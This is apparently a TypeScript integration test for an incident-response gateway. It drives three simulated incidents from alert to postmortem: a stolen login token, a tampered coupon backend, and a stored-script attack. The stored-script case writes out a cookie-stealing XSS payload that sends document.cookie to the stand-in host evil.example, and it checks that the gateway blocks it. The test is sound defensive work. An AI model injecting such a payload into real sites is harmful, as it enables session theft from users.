import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as contract from '@menshen/contract';
import { demoCompany } from '@menshen/demo';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signRelease } from '../release/release.ts';
import { makeReleaseKey, readSigner } from '../release/release-key.ts';
import { type CasesWorld, openCasesWorld, type Said } from './testing/cases-world.ts';

const office = '192.0.2.10';
const shop = '198.51.100.40';
const reason = 'the fault is repaired and checked';
const waits = { timeout: 20_000, interval: 200 };

/** What a case came to, for whoever reads the output. Seconds are measured on the machine of the test. */
interface Figures {
  readonly case: string;
  readonly alertAfterSeconds: number;
  readonly containedAfterSeconds: number;
  readonly attemptsRefused: number;
  readonly attemptsThatSucceeded: number;
  readonly honestRequests: number;
  readonly honestDisturbed: number;
  readonly reportBytes: number;
}

/**
 * The three cases of the mission, each from the first alert to the reopening, against `menshen serve` as a process of its own. What nobody decides by hand is
 * done by the playbooks that ship.
 */
describe('the three cases', { timeout: 60_000 }, () => {
  const key = makeReleaseKey('ed25519');
  const build = mkdtempSync(join(tmpdir(), 'menshen-build-'));
  const figures: Figures[] = [];
  let world: CasesWorld;
  let crowd: Honest;

  beforeAll(async () => {
    world = await openCasesWorld(key.publicPem);
    await call(contract.syncDirectory, { body: {} });
    crowd = await honestPeople(world);
  }, 60_000);
  afterAll(async () => {
    await crowd?.stop();
    await world?.close();
    rmSync(build, { recursive: true, force: true });
    process.stdout.write(`${figures.map((one) => JSON.stringify(one)).join('\n')}\n`);
  });

  const call: CasesWorld['operator']['call'] = async (endpoint, parts) => {
    const answer = await world.operator.call(endpoint, parts);
    if (answer.status >= 300) throw new Error(`${endpoint.id}: ${answer.status} ${JSON.stringify(answer.body)}`);
    return answer;
  };
  const token = async (...who: Parameters<CasesWorld['signIn']>): Promise<string> => {
    const { status, body } = await world.signIn(...who);
    expect([status, body['code']]).toEqual([200, undefined]);
    return String(body['token']);
  };
  const incidentOf = async (fits: (incident: contract.IncidentDetail) => boolean): Promise<contract.IncidentDetail> => {
    const look = async (): Promise<contract.IncidentDetail | null> => {
      for (const { id } of (await call(contract.listIncidents, { query: { show: 'open' } })).body.incidents) {
        const { body } = await call(contract.getIncident, { params: { id } });
        if (fits(body)) return body;
      }
      return null;
    };
    await expect.poll(look, waits).not.toBeNull();
    const found = await look();
    if (found === null) throw new Error('the incident is gone');
    return found;
  };
  const concerns = (value: string) => (incident: contract.IncidentDetail) =>
    incident.subjects.some((subject) => subject.value === value);
  const measuresOf = async (incident: string) =>
    (await call(contract.listMeasures, { query: { show: 'all', incident } })).body.measures;
  /** The first measure that a playbook took by itself. */
  const containedBy = async (incident: string, kind: contract.MeasureKindId): Promise<number> => {
    const first = async () => (await measuresOf(incident)).find((one) => one.kind === kind)?.since ?? null;
    await expect.poll(first, waits).not.toBeNull();
    return (await first()) ?? 0;
  };
  const take = async (incident: string, kind: contract.ReopenableKind, target: object): Promise<string> => {
    const body = {
      ...{ kind, target, until: Date.now() + 3_600_000, reason: 'until it is repaired', incident },
      idempotencyKey: `${incident}-${kind}`,
    };
    return (await call(contract.applyMeasure, { body })).body.id;
  };
  const advance = async (id: string, to: 'triaged' | 'contained' | 'recovered' | 'closed', exception?: string) =>
    await world.operator.call(contract.advanceIncident, { params: { id }, body: { step: 'advance', to, note: '', exception } });
  const fill = async (id: string, box: contract.RecoveryBox, body: object) =>
    (await call(contract.fillRecoveryBox, { params: { id, box }, body })).body;
  const candidate = async (id: string, box: contract.RecoveryBox): Promise<contract.RecoveryEvidence> => {
    const found = async () =>
      (await call(contract.getRecoveryChecklist, { params: { id } })).body.boxes.find((one) => one.box === box)?.candidates[0] ??
      null;
    await expect.poll(found, waits).not.toBeNull();
    const evidence = await found();
    if (evidence === null) throw new Error('nothing proves it any more');
    return evidence;
  };
  const prove = async (id: string, box: contract.RecoveryBox): Promise<void> => {
    const { kind, ref } = await candidate(id, box);
    const { boxes } = await fill(id, box, { how: 'evidence', kind, ref });
    expect(boxes.find((one) => one.box === box)).toMatchObject({ state: 'filled', how: 'evidence' });
  };
  const reopen = async (id: string, share: number, watch: object = {}): Promise<void> => {
    const steps = [...(share === 100 ? [] : [{ share, seconds: 600 }]), { share: 100, seconds: 600 }];
    const plan = { steps, advance: 'manual', watch: { minRequests: 4, ...watch } };
    await call(contract.reopenMeasure, { params: { id }, body: { plan, reason } });
  };
  const move = async (id: string, name: 'next' | 'resume') =>
    await call(contract.moveReopening, { params: { id }, body: { move: name, reason } });
  const reopeningOf = async (id: string) => (await call(contract.getMeasure, { params: { id } })).body.reopening;
  /** A release of the repaired code, signed by the key that the configuration names, with a clean scan. */
  const release = async (app: string, version: string): Promise<void> => {
    const folder = join(build, app);
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'app.js'), `// ${version}`);
    const scan = { tool: 'menshen', sha256: '0'.repeat(64), critical: 0, high: 0, medium: 0, low: 1 };
    const facts = { app, version, kind: 'miniprogram' as const, created: new Date(), ignore: [], scan };
    const { envelope } = await signRelease(folder, facts, [readSigner(key.privatePem)]);
    await call(contract.registerRelease, { body: { manifest: JSON.stringify(envelope) } });
  };
  /** Closes the incident and writes its report. */
  const finish = async (
    id: string,
    told: { readonly name: string; readonly began: number; readonly contained: number; readonly found: number },
    tried: readonly Said[],
  ): Promise<void> => {
    expect((await call(contract.getRecoveryChecklist, { params: { id } })).body).toMatchObject({ complete: true });
    for (const to of ['recovered', 'closed'] as const) expect((await advance(id, to)).status).toBe(200);
    const { body } = await call(contract.makeIncidentReport, { params: { id }, body: { kind: 'postmortem', format: 'docx' } });
    const bytes = Buffer.from(body.content, 'base64');
    writeFileSync(join(world.folder, body.name), bytes);
    // A word file is a zip archive.
    expect(bytes.subarray(0, 4).toString('latin1')).toBe('PK\u0003\u0004');
    const { timeline, clocks } = (await call(contract.getIncident, { params: { id } })).body;
    expect(timeline.filter(({ index }) => index === null)).toEqual([]);
    expect(clocks.find(({ clock }) => clock === 'recovered')?.at).not.toBeNull();
    const honest = crowd.since(told.began);
    expect(honest.disturbed).toEqual([]);
    expect(honest.count).toBeGreaterThan(0);
    const succeeded = tried.filter(({ status }) => status < 300).length;
    figures.push({
      case: told.name,
      alertAfterSeconds: (told.found - told.began) / 1_000,
      containedAfterSeconds: (told.contained - told.began) / 1_000,
      attemptsRefused: tried.length - succeeded,
      attemptsThatSucceeded: succeeded,
      honestRequests: honest.count,
      honestDisturbed: honest.disturbed.length,
      reportBytes: bytes.length,
    });
  };

  it('a stolen login: refused from the start, ended by the playbook, opened again behind a second factor', async () => {
    const began = Date.now();
    await token('portal', 'wecom', 'lin.xiaotong', office);
    // The code is right, the place is not; then the token goes from exit to exit.
    const stolen = await token('portal', 'wecom', 'lin.xiaotong', '203.0.113.66');
    const tried: Said[] = [];
    for (let exit = 60; exit < 66; exit += 1) {
      tried.push(await world.ask('GET', '/portal/api/me', { token: stolen, from: `203.0.113.${exit}` }));
      const change = { token: stolen, from: `203.0.113.${exit}`, body: { phone: '19900009999' } };
      tried.push(await world.ask('PUT', '/portal/api/employees/lin.xiaotong', change));
    }
    const incident = await incidentOf(concerns('lin.xiaotong'));
    const contained = await containedBy(incident.id, 'end_sessions');
    tried.push(await world.ask('GET', '/portal/api/me', { token: stolen, from: '203.0.113.66' }));
    expect(tried.at(-1)).toMatchObject({ status: 401, body: { code: 'session_revoked' } });

    // Nobody changes records until it is clear what happened.
    const change = 'PUT /api/employees/:uid';
    const stop = await take(incident.id, 'stop_route', { app: 'portal', route: change });
    await advance(incident.id, 'contained');
    expect((await advance(incident.id, 'recovered')).body.code).toBe('incident_recovery_incomplete');
    await fill(incident.id, 'repaired', {
      how: 'statement',
      who: '林晓彤',
      reason: 'the WeChat account is hers again, its password is new',
    });
    await fill(incident.id, 'restored', { how: 'not_needed', reason: 'her record was read by nobody and changed by nobody' });
    // Changing a record takes a second factor from now on.
    await world.reconfigure((config) => ({
      ...config,
      apps: (config.apps ?? []).map((app) => ({
        ...app,
        routes: (app.routes ?? []).map((route) =>
          app.id === 'portal' && route.match === change ? { ...route, auth: { mfa: { maxAgeSeconds: 300 } } } : route,
        ),
      })),
    }));
    await prove(incident.id, 'hardened');
    await reopen(stop, 50);
    await move(stop, 'next');
    await move(stop, 'next');
    expect(await reopeningOf(stop)).toMatchObject({ state: 'complete' });
    await finish(incident.id, { name: 'stolen login', began, contained, found: incident.clocks[1]?.at ?? 0 }, tried);
  });

  it('a tampered coupon campaign: no false coupon leaves, a reopening before the repair closes itself, one after it holds', async () => {
    const tamper = async (on: boolean): Promise<void> =>
      void (await fetch(`${world.backendUrl}/_demo/tamper`, {
        ...{ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ on }) },
      }));
    const claim = (who: string, from: string) =>
      world.ask('POST', '/coupon/api/claims', {
        ...{ token: who, from, body: { campaignId: 'new-2026', amountCents: 1_000, shop: 'HZ001', qr: 'DT:HZ001:new-2026' } },
      });
    const began = Date.now();
    await tamper(true);
    const helper = await token('coupon', 'wechat', 'customer-01', shop);
    const tried: Said[] = [];
    for (let count = 0; count < 4; count += 1) tried.push(await claim(helper, shop));
    expect(tried.map(({ body }) => body['code'])).toEqual([
      ...['guard_answer_mismatch', 'guard_answer_mismatch', 'guard_answer_mismatch', 'guard_campaign_stopped'],
    ]);
    const incident = await incidentOf(concerns(shop));
    // The alert of the running product says what was asked for and what the backend gave.
    const alerts = (await call(contract.listAlerts, { query: {} })).body.alerts;
    expect(alerts.find(({ rule }) => rule === 'menshen_answer_tampered')?.text.en).toContain(
      'expected 10.00 yuan as asked for, seen 1000.00 yuan',
    );
    // Several campaigns are claimed by this route: the entry in the log names the one, and the playbook stops it and no other.
    const contained = await containedBy(incident.id, 'stop_campaign');
    const stops = (await measuresOf(incident.id)).filter(({ kind }) => kind === 'stop_campaign');
    expect(stops).toMatchObject([{ target: { app: 'coupon', campaign: 'new-2026' }, by: 'playbook:coupon-tampering' }]);
    const stop = stops[0]?.id ?? '';
    await call(contract.resumeCampaign, { params: { app: 'coupon', campaign: 'new-2026' }, body: { reason } });
    await advance(incident.id, 'contained');

    // Too early: the backend still is what the attacker made of it.
    await reopen(stop, 100, { minRequests: 2 });
    const early = await token('coupon', 'wechat', 'customer-02', '198.51.100.41');
    for (let count = 0; count < 2; count += 1) tried.push(await claim(early, '198.51.100.41'));
    await expect.poll(async () => (await reopeningOf(stop))?.state, waits).toBe('closed');
    expect((await reopeningOf(stop))?.moves.at(-1)).toMatchObject({ by: 'watch', share: 0 });
    tried.push(await claim(early, '198.51.100.41'));
    expect(tried.at(-1)?.body['code']).toBe('guard_campaign_stopped');
    expect((await call(contract.getRecoveryChecklist, { params: { id: incident.id } })).body.boxes[3]).toMatchObject({
      problem: 'still_closed',
    });

    await tamper(false);
    await release('coupon', '2.4.1');
    await prove(incident.id, 'repaired');
    await call(contract.runBackup);
    const backedUp = async () => (await call(contract.getRecovery)).body.backups?.list.length;
    await expect.poll(backedUp, waits).toBeGreaterThan(0);
    await call(contract.runDrill);
    await prove(incident.id, 'restored');
    await world.reconfigure((config) => ({
      ...config,
      apps: (config.apps ?? []).map((app) => ({
        ...app,
        campaigns: (app.campaigns ?? []).map((campaign) =>
          campaign.id === 'new-2026' ? { ...campaign, stop: { answers: 1, windowSeconds: 600 } } : campaign,
        ),
      })),
    }));
    await prove(incident.id, 'hardened');
    await move(stop, 'resume');
    // Whoever asked while the backend lied has lost nothing: no session, no address, no coupon.
    const served: Said[] = [await claim(helper, shop), await claim(early, '198.51.100.41')];
    for (let person = 3; person < 7; person += 1) {
      const from = `198.51.100.${40 + person}`;
      served.push(await claim(await token('coupon', 'wechat', `customer-0${person}`, from), from));
    }
    expect(served.map(({ status, body }) => [status, body['amountCents']])).toEqual(served.map(() => [201, 1_000]));
    await move(stop, 'next');
    await finish(incident.id, { name: 'tampered coupon', began, contained, found: incident.clocks[1]?.at ?? 0 }, tried);
  });

  it('a stored script: refused, its sender out, the route opened again for a share and then for all', async () => {
    const began = Date.now();
    const from = '203.0.113.77';
    const publisher = await token('portal', 'wecom', 'zhao.huimin', from);
    const tried: Said[] = [];
    for (let count = 0; count < 6; count += 1) {
      const script = `<script>fetch("//evil.example/?s="+document.cookie+${count})</script>`;
      const body = { kind: 'annual', from: '2026-12-01', to: '2026-12-02', reason: script };
      tried.push(await world.ask('POST', '/portal/api/leave', { token: publisher, from, body }));
    }
    expect(new Set(tried.map(({ body }) => body['code']))).toEqual(new Set(['request_blocked']));
    const incident = await incidentOf(concerns('zhao.huimin'));
    const contained = await containedBy(incident.id, 'end_sessions');
    const stop = await take(incident.id, 'stop_route', { app: 'portal', route: 'POST /api/leave' });
    await advance(incident.id, 'contained');
    await release('portal', '3.1.1');
    await prove(incident.id, 'repaired');
    await fill(incident.id, 'restored', {
      how: 'statement',
      who: '沈志远',
      reason: 'the table of leave was compared with its backup',
    });
    await world.reconfigure((config) => ({
      ...config,
      apps: (config.apps ?? []).map((app) => ({
        ...app,
        routes: (app.routes ?? []).map((route) =>
          app.id === 'portal' && route.match === 'POST /api/leave'
            ? { ...route, limit: { per: 'person' as const, requests: 3, windowSeconds: 3_600 } }
            : route,
        ),
      })),
    }));
    await prove(incident.id, 'hardened');
    await reopen(stop, 25);
    const leave = { kind: 'annual', from: '2026-12-01', to: '2026-12-02', reason: '家里有事' };
    const ask = (who: string) => world.ask('POST', '/portal/api/leave', { token: who, from: office, body: leave });
    const colleague = await token('portal', 'wecom', 'luo.shuhang', office);
    const [first, second] = [await ask(colleague), await ask(colleague)];
    // In or out, but the same both times.
    expect(second.body['code']).toBe(first.body['code']);
    await move(stop, 'next');
    expect((await ask(colleague)).status).toBe(201);
    await move(stop, 'next');
    await finish(incident.id, { name: 'stored script', began, contained, found: incident.clocks[1]?.at ?? 0 }, tried);
  });
});

interface Honest {
  /** What honest people asked for since a moment, and what of it went wrong. */
  since(began: number): { readonly count: number; readonly disturbed: readonly string[] };
  stop(): Promise<void>;
}

/** People who go on with their day: employees in the office and customers in shops, each of whom looks at something every few seconds. */
async function honestPeople(world: CasesWorld): Promise<Honest> {
  const seen: { readonly at: number; readonly what: string; readonly status: number; readonly code: unknown }[] = [];
  const customers = Array.from({ length: 6 }, (_, at) => `customer-${10 + at}`);
  const staff = demoCompany()
    .users.filter(({ status = 1 }) => status === 1)
    .slice(40, 48);
  const people = [
    ...staff.map(({ userid }, at) => ({
      ...{ app: 'portal' as const, channel: 'wecom' as const, person: userid, from: `192.0.2.${20 + at}` },
      paths: ['/portal/api/me', '/portal/api/announcements'],
    })),
    ...customers.map((person, at) => ({
      ...{
        app: 'coupon' as const,
        channel: 'wechat' as const,
        person,
        from: `198.51.100.${90 + at}`,
        paths: ['/coupon/api/claims'],
      },
    })),
  ];
  let stopped = false;
  const wake = new Set<() => void>();
  /** Nobody looks at something every two seconds to the millisecond. */
  const pause = (turn: number): Promise<void> =>
    new Promise((resolve) => {
      const timer = setTimeout(resolve, 1_500 + ((turn * 7_919) % 2_500));
      wake.add(() => {
        clearTimeout(timer);
        resolve();
      });
    });
  const days = await Promise.all(
    people.map(async ({ app, channel, person, from, paths }, own) => {
      const { body } = await world.signIn(app, channel, person, from);
      if (typeof body['token'] !== 'string') throw new Error(`${person}: ${String(body['code'])}`);
      const token = body['token'];
      return async (): Promise<void> => {
        for (let turn = 0; !stopped; turn += 1) {
          const path = paths[turn % paths.length] ?? '';
          const said = await world.ask('GET', path, { token, from }).catch(() => ({ status: 0, body: {} as Said['body'] }));
          if (!stopped) seen.push({ at: Date.now(), what: `${person} ${path}`, status: said.status, code: said.body['code'] });
          await pause(turn * 13 + own);
        }
      };
    }),
  );
  const running = days.map((day) => day());
  return {
    since(began) {
      const own = seen.filter(({ at }) => at >= began);
      return {
        count: own.length,
        disturbed: own.filter(({ status }) => status !== 200).map(({ what, status, code }) => `${what} ${status} ${code}`),
      };
    },
    async stop() {
      stopped = true;
      for (const end of wake) end();
      await Promise.all(running);
    },
  };
}
